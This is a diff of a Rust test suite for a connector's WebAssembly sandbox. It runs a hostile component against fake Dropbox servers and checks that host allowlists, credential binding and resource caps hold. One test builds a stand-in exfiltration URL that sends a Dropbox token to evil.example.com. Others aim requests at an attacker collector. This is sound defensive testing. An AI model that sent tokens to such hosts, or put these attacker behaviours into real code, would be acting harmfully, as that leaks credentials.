@@ -42,10 +42,13 @@ struct Arena {
 
 async fn arena(limits: &str) -> Arena {
     let mut world = World::new(20);
-    world.edit(
-        &crate::support::component().display().to_string(),
-        &wasm("hostile_attacker").display().to_string(),
-    );
+    world
+        .edit(
+            &crate::support::component().display().to_string(),
+            &wasm("hostile_attacker").display().to_string(),
+        )
+        // The attacker declares no such fetch option.
+        .edit("include_removed = true", "include_removed = false");
     world.append(limits);
     let evil = FakeDropbox::start(DropboxConfig::new(Team::generate(1, 1), "evil")).expect("evil");
     let config = Config::load(&world.write_config()).expect("config");
@@ -154,11 +157,17 @@ async fn unbounded_memory_growth_hits_the_memory_cap() {
 async fn a_request_to_a_host_not_allowed_is_denied() {
     let a = arena("").await;
     let target = format!("https://evil.example.com/steal?token={DROPBOX_TOKEN}");
-    let out = a
+    // A refusal ends the call and fails the run (limits.max_refused_requests
+    // is 0 by default): a sync with refused requests never exits 0.
+    let err = a
         .run("request-other-host", Some(&target))
         .await
-        .expect("call returns");
-    assert!(matches!(out, Err(ConnectorError::Denied(_))), "{out:?}");
+        .expect_err("the refusal ends the call");
+    assert!(
+        format!("{err:#}").contains("more than limits.max_refused_requests = 0"),
+        "{err:#}"
+    );
+    no_secrets_in(&format!("{err:#}"));
     let why = a.refusal();
     assert!(
         why.contains("https://evil.example.com/steal?[redacted]"),
@@ -173,11 +182,14 @@ async fn a_request_to_a_host_not_allowed_is_denied() {
 async fn an_ip_literal_is_denied() {
     let a = arena("").await;
     let target = format!("{}/2/team/members/list_v2", a.evil.url());
-    let out = a
+    let err = a
         .run("request-ip-literal", Some(&target))
         .await
-        .expect("call returns");
-    assert!(matches!(out, Err(ConnectorError::Denied(_))), "{out:?}");
+        .expect_err("the refusal ends the call");
+    assert!(
+        format!("{err:#}").contains("limits.max_refused_requests"),
+        "{err:#}"
+    );
     assert!(
         a.refusal().contains("not in the allowlist"),
         "{}",
@@ -197,7 +209,8 @@ async fn a_name_resolving_to_loopback_is_denied_without_opt_in() {
             &format!("url = \"{}\"", world.dropbox.url()),
             &format!("url = \"http://localhost:{port}\""),
         )
-        .edit("allow_loopback = true", "allow_loopback = false");
+        .edit("allow_loopback = true", "allow_loopback = false")
+        .append("\n[limits]\nmax_refused_requests = 10\n");
     let integration = Integration::prepare(Config::load(&world.write_config()).expect("config"))
         .await
         .expect("loads");
@@ -221,7 +234,8 @@ async fn a_name_resolving_to_loopback_is_denied_without_opt_in() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn an_authorization_override_aimed_at_an_attacker_is_contained() {
-    let a = arena("").await;
+    // Refusals are allowed here so the attacker can report what it saw.
+    let a = arena("\n[limits]\nmax_refused_requests = 100\n").await;
     let target = format!("{}/collect", a.evil.url());
     let out = a
         .run("authorization-override", Some(&target))
@@ -248,7 +262,7 @@ async fn an_authorization_override_aimed_at_an_attacker_is_contained() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_host_header_trick_is_contained() {
-    let a = arena("").await;
+    let a = arena("\n[limits]\nmax_refused_requests = 100\n").await;
     let target = format!("{}/", a.evil.url());
     let page = a
         .run("host-header", Some(&target))
@@ -452,4 +466,188 @@ async fn a_stderr_flood_goes_nowhere() {
     let stats = &a.integration.policy.stats;
     assert_eq!(stats.denied.load(Ordering::Relaxed), 0);
     a.aftermath().await;
+}
+
+// ---- Round two: the operator binds the credential; host-side resources
+// are bounded; refusals are capped; the contract's no-HTTP calls.
+
+/// The attacker's manifest also declares this origin, asking for the token.
+const COLLECTOR: &str = "https://collector.example.com";
+
+/// A request as the guest would hand it to the hook.
+fn guest_request(uri: &str) -> http::Request<wasmtime_wasi_http::WasiBody> {
+    use http_body_util::BodyExt;
+    let body = http_body_util::Empty::new()
+        .map_err(|_| wasmtime_wasi_http::Error::HttpRequestDenied)
+        .boxed_unsync();
+    http::Request::builder()
+        .uri(uri)
+        .body(body)
+        .expect("request")
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_second_origin_asking_for_the_credential_gets_none() {
+    // The operator accepts every declared host (no sandbox.allow): the
+    // attacker's second origin is reachable, yet the credential stays bound
+    // to the first, https, host.
+    let mut world = World::new(5);
+    world
+        .edit(
+            &crate::support::component().display().to_string(),
+            &wasm("hostile_attacker").display().to_string(),
+        )
+        // The attacker declares no such fetch option.
+        .edit("include_removed = true", "include_removed = false");
+    world.edit(
+        "allow = [\"https://api.dropboxapi.com\"]",
+        "# allow not set",
+    );
+    let integration = Integration::prepare(Config::load(&world.write_config()).expect("config"))
+        .await
+        .expect("loads");
+    let bound: Vec<String> = integration
+        .policy
+        .bearer
+        .iter()
+        .map(|(t, _)| t.to_string())
+        .collect();
+    assert_eq!(bound, ["https://api.dropboxapi.com:443"]);
+    let report = &integration.policy_report;
+    assert!(
+        report
+            .binding
+            .as_deref()
+            .is_some_and(|b| b.contains("dropbox.token → https://api.dropboxapi.com")),
+        "{report:?}"
+    );
+    let warnings = report.warnings.join("\n");
+    assert!(warnings.contains("sandbox.allow is not set"), "{warnings}");
+    assert!(
+        warnings.contains(&format!(
+            "asks for a credential at {COLLECTOR} too; it gets none"
+        )),
+        "{warnings}"
+    );
+    // The hook: allowed (declared, accepted), but no credential attached.
+    let hooks = oomnitza_connect::sandbox::OutboundHooks::new(
+        integration.policy.clone(),
+        Default::default(),
+    );
+    let (_, bearer) = hooks
+        .prepare(guest_request(&format!("{COLLECTOR}/collect")))
+        .expect("the declared host is allowed");
+    assert!(bearer.is_none(), "the collector would get the token");
+    let (_, bearer) = hooks
+        .prepare(guest_request(
+            "https://api.dropboxapi.com/2/team/members/list_v2",
+        ))
+        .expect("allowed");
+    assert!(bearer.is_some());
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn the_operator_cannot_bind_the_credential_to_a_host_it_did_not_accept() {
+    let mut world = World::new(1);
+    world
+        .edit(
+            &crate::support::component().display().to_string(),
+            &wasm("hostile_attacker").display().to_string(),
+        )
+        .edit("include_removed = true", "include_removed = false")
+        .edit(
+            "[dropbox]\n",
+            &format!("[dropbox]\norigin = \"{COLLECTOR}\"\n"),
+        );
+    let err = Integration::prepare(Config::load(&world.write_config()).expect("config"))
+        .await
+        .err()
+        .expect("refused");
+    let msg = format!("{err:#}");
+    assert!(
+        msg.contains("dropbox.origin")
+            && msg.contains("not a host the component declares and the sandbox accepts"),
+        "{msg}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_header_flood_hits_the_host_resource_cap() {
+    let a = arena("").await;
+    let err = a.run("header-flood", None).await.expect_err("stopped");
+    let msg = format!("{err:#}");
+    assert!(
+        msg.contains("more than 256 host resources") && msg.contains("limits.max_host_resources"),
+        "{msg}"
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn unread_response_bodies_stay_in_flight() {
+    let a = arena("").await;
+    let err = a.run("open-bodies", None).await.expect_err("stopped");
+    let msg = format!("{err:#}");
+    assert!(
+        msg.contains("more than 8 requests in flight") && msg.contains("unread response bodies"),
+        "{msg}"
+    );
+    assert!(
+        a.world.dropbox.stats().requests <= 8,
+        "{} responses were held open",
+        a.world.dropbox.stats().requests
+    );
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn refusals_count_against_the_per_call_cap() {
+    let a = arena("\n[limits]\nmax_refused_requests = 100000\nmax_requests_per_call = 50\n").await;
+    let err = a.run("refusal-flood", None).await.expect_err("stopped");
+    assert!(
+        format!("{err:#}").contains("more than 50 requests in one call"),
+        "{err:#}"
+    );
+    let denied = a.integration.policy.stats.denied.load(Ordering::Relaxed);
+    assert!(denied <= 51, "{denied} refusals in one call");
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn by_default_the_first_refusal_ends_the_run() {
+    let a = arena("").await;
+    let err = a.run("refusal-flood", None).await.expect_err("stopped");
+    assert!(
+        format!("{err:#}").contains("refused 1 request(s) in this run"),
+        "{err:#}"
+    );
+    assert_eq!(a.integration.policy.stats.denied.load(Ordering::Relaxed), 1);
+    a.aftermath().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn map_records_makes_no_http_request() {
+    // `validate` and every sync call map-records to check the mapping; a
+    // component that calls out from it is stopped before anything is sent.
+    let mut world = World::new(1);
+    world
+        .edit(
+            &crate::support::component().display().to_string(),
+            &wasm("hostile_attacker").display().to_string(),
+        )
+        .edit("include_removed = true", "include_removed = false")
+        .edit("\nrole = 25", "\n# role in [mapping]")
+        .append(
+            "\n[mapping]\nsync_key = [\"EMAIL\"]\n[[mapping.rules]]\ntarget = \"USER\"\nfield = \"email\"\n[[mapping.rules]]\ntarget = \"EMAIL\"\nfield = \"email\"\n[[mapping.rules]]\ntarget = \"PERMISSIONS_ID\"\nconstant = 25\n[[mapping.rules]]\ntarget = \"http_probe\"\nfield = \"note\"\n",
+        );
+    let err = Integration::prepare(Config::load(&world.write_config()).expect("config"))
+        .await
+        .err()
+        .expect("stopped");
+    let msg = format!("{err:#}");
+    assert!(
+        msg.contains("made an HTTP request during `map-records`"),
+        "{msg}"
+    );
+    assert_eq!(world.dropbox.stats().requests, 0, "nothing reached Dropbox");
 }
